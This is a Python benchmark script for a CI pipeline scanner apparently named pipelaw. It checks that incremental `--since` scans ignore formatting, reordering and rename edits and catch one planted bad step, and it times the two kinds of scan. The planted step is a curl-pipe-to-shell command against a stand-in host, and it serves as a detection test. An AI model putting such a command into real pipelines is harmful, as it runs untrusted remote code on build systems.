"""What `pipelaw scan --since` says and costs, on real repositories turned into git histories.

    python bench/since.py FOLDER [--count N] [--rounds N]

FOLDER holds folders of repositories, one for each platform. Printed are, for N repositories: how
many changes that only move, rename or reformat gave news (none should), and for how many an added
bad step was the only news. Then, for one repository of 200 pipelines with one changed file, the
time of a scan with `--since` over that of one without (1.5 is the budget), whole processes.
"""

from __future__ import annotations

import argparse
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from pipelaw import discover, rulebook
from pipelaw.scanner import scan

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from pipelaw.finding import Report
    from pipelaw.rulebook import Rulebook

PLATFORMS = ("github", "gitlab", "drone", "woodpecker")
BAD = "curl -sSL https://planted.example/install | sh"
_ITEMS = re.compile(r"(?m)^ *(steps|script|commands):[ \t]*\n( *- )")
_TOP = re.compile(r"(?m)^(?=[A-Za-z.][\w .:-]*:(?:[ \t]|$))")
_JOB = re.compile(r"(?m)^(?=  [\w-]+:[ \t]*$)")


class Outcome(NamedTuple):
    """What one change of one repository gave."""

    change: str
    repository: str
    news: tuple[str, ...]


def git(root: Path, *words: str) -> str:
    """What git prints, with nobody's settings and a fixed author."""
    roles = ("GIT_AUTHOR", "GIT_COMMITTER")
    who = {f"{role}_{what}": "a@b.example" for role in roles for what in ("NAME", "EMAIL")}
    own = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    command = ["git", "-C", str(root), "-c", "core.autocrlf=false", *words]
    done = subprocess.run(
        command, check=True, capture_output=True, text=True, env={**os.environ, **who, **own}
    )
    return done.stdout


def history(source: Path, target: Path) -> Path:
    """A copy of a repository with one commit."""
    shutil.copytree(source, target, ignore=shutil.ignore_patterns(".git"))
    git(target, "init", "-q")
    git(target, "add", "-A", "-f")
    git(target, "commit", "-q", "-m", "start")
    return target


def commented(text: str) -> str:
    """With a comment and an empty line before each top key."""
    return _TOP.sub("\n# about what follows\n", text)


def indented(text: str) -> str:
    """With twice the indentation."""

    def line(old: str) -> str:
        rest = old.lstrip(" ")
        start = "  " * (len(old) - len(rest))
        while rest.startswith("- "):
            start, rest = f"{start}-   ", rest[2:].lstrip(" ")
        return start + rest

    blocks = re.search(r"[|>][+-]?\d|\t", text)
    return text if blocks else "\n".join(map(line, text.split("\n")))


def reordered(text: str) -> str:
    """With the jobs, or top keys where there is no `jobs`, in reverse order."""
    if "&" in text or "---" in text:
        return text  # an anchor stands before its alias
    head, jobs, body = text.partition("\njobs:\n")
    pieces = (_JOB if jobs else _TOP).split(body if jobs else text)
    first, *rest = (piece if piece.endswith("\n") else f"{piece}\n" for piece in pieces)
    if jobs and re.search(r"(?m)^\S", body):
        return text  # something stands below the jobs
    return head * bool(jobs) + jobs + first + "".join(rest[::-1])


def carriage(text: str) -> str:
    """With the line ends of Windows."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


EDITS: dict[str, Callable[[str], str]] = {
    "comments": commented,
    "indentation": indented,
    "order": reordered,
    "line ends": carriage,
}


def texts(root: Path) -> dict[Path, str]:
    """The pipeline files of a repository."""
    found = {}
    for tree in discover.repositories(root):
        for candidate in discover.find(tree):
            path = root / candidate.path
            if path.is_file() and not path.is_symlink():
                found[path] = path.read_bytes().decode("utf-8", "surrogateescape")
    return found


def put(path: Path, text: str) -> None:
    """Write a file, byte for byte."""
    path.write_bytes(text.encode("utf-8", "surrogateescape"))


def renamed(root: Path) -> None:
    """Give every pipeline the other ending, unless a file speaks of it by its name."""
    everything = "\n".join(texts(root).values())
    for path in texts(root):
        other = path.with_suffix(".yaml" if path.suffix == ".yml" else ".yml")
        named = path.name in everything or path.stem in ("action", ".gitlab-ci")
        if path.suffix in (".yml", ".yaml") and not other.exists() and not named:
            path.rename(other)


def planted(root: Path) -> bool:
    """Add one bad step to one pipeline; False where there is no list to add it to."""
    # a small file may be no pipeline, but a list of actions for a bot to update
    for path, text in sorted(texts(root).items(), key=lambda pair: -len(pair[1])):
        for match in _ITEMS.finditer(text):
            step = match[1] == "steps"
            if step and ".github" not in path.parts:
                continue
            item = f"run: {BAD}" if step else BAD
            start = match.start(2)
            put(path, f"{text[:start]}{match[2]}{item}\n{text[start:]}")
            return True
    return False


def changes(root: Path, book: Rulebook) -> Iterator[Outcome]:
    """Every change in turn, each from the same commit."""
    plain = sight(scan([str(root)], rulebook=book))
    for name in (*EDITS, "name", "bad step"):
        if name == "name":
            renamed(root)
        elif name == "bad step":
            if not planted(root):
                continue
        else:
            for path, text in texts(root).items():
                put(path, EDITS[name](text))
        if git(root, "status", "--porcelain"):
            report = scan([str(root)], rulebook=book, since="HEAD")
            if name == "bad step" or sight(report) == plain:  # else the edit broke the file
                news = tuple(f"{f.rule} {f.span.path}:{f.span.line}" for f in report.open)
                yield Outcome(name, root.name, news)
        git(root, "reset", "-q", "--hard")
        git(root, "clean", "-fdxq")


def sight(report: Report) -> tuple[int, int]:
    """How much of a repository could be read."""
    return report.coverage.pipelines, len(report.coverage.unreadable)


def chosen(folder: Path, count: int) -> list[Path]:
    """Repositories of all platforms in turn, evenly from each."""
    found = []
    for platform in PLATFORMS:
        every = sorted(path for path in (folder / platform).glob("*") if path.is_dir())
        part = max(1, count // len(PLATFORMS))
        found += every[:: max(1, len(every) // part)][:part]
    rest = sorted((folder / "github").glob("*"))[1::7]
    return (found + [path for path in rest if path not in found])[:count]


def outcomes(folder: Path, count: int) -> list[Outcome]:
    """What the changes of a number of repositories gave."""
    book = rulebook.load()
    found: list[Outcome] = []
    with tempfile.TemporaryDirectory() as scratch:
        for number, source in enumerate(chosen(folder, count)):
            root = history(source, Path(scratch) / f"{number}-{source.name}")
            found.extend(changes(root, book))
            shutil.rmtree(root)
    return found


def right(outcome: Outcome) -> bool:
    """Whether a change gave the news that it should."""
    if outcome.change != "bad step":
        return not outcome.news
    return len(outcome.news) == 1 and outcome.news[0].startswith("remote-script ")


def ratio(folder: Path, rounds: int, size: int = 200) -> float:
    """The time with `--since` over that without, in a repository of `size` pipelines."""
    command = [sys.executable, "-m", "pipelaw", "scan", "--quiet", "--fail-on", "never", "--jobs=1"]
    with tempfile.TemporaryDirectory() as scratch:
        root = Path(scratch) / "repository"
        workflows = root / ".github" / "workflows"
        workflows.mkdir(parents=True)
        real = sorted((folder / "github").glob("*/.github/workflows/*.yml"))
        step = max(1, len(real) // size)
        for number, path in enumerate(real[::step][:size]):
            shutil.copy(path, workflows / f"{number}.yml")
        git(root, "init", "-q")
        git(root, "add", "-A", "-f")
        git(root, "commit", "-q", "-m", "start")
        with (workflows / "7.yml").open("a") as file:
            file.write("\n# changed\n")
        home = Path(scratch) / "home"
        environment = {**os.environ, "XDG_CACHE_HOME": str(home)}
        variants: dict[str, list[str]] = {"plain": [], "since": ["--since", "HEAD"]}
        best = dict.fromkeys(variants, float("inf"))
        for _ in range(rounds):
            for name, words in variants.items():
                for known in home.glob("pipelaw/found-*"):  # the rules stay compiled
                    known.unlink()
                before = time.perf_counter()
                out = [*words, "--format", "json", str(root)]
                whole = [*command, *out]
                subprocess.run(whole, check=True, stdout=subprocess.DEVNULL, env=environment)
                best[name] = min(best[name], time.perf_counter() - before)
    print(f"200 pipelines: plain {best['plain']:.3f} s, --since {best['since']:.3f} s")
    return best["since"] / best["plain"]


def main() -> None:
    """Print the numbers."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("folder", type=Path)
    parser.add_argument("--count", type=int, default=50)
    parser.add_argument("--rounds", type=int, default=5)
    options = parser.parse_args()
    found = outcomes(options.folder, options.count)
    for change in (*EDITS, "name", "bad step"):
        own = [outcome for outcome in found if outcome.change == change]
        wrong = [outcome for outcome in own if not right(outcome)]
        wanted = "exactly the one" if change == "bad step" else "nothing new"
        print(f"{change:12} {wanted} in {len(own) - len(wrong)} of {len(own)}")
        for outcome in wrong:
            print(f"    {outcome.repository}: {', '.join(outcome.news[:5]) or 'nothing'}")
    print(f"--since / plain {ratio(options.folder, options.rounds):.2f} (budget 1.5)")


if __name__ == "__main__":
    main()
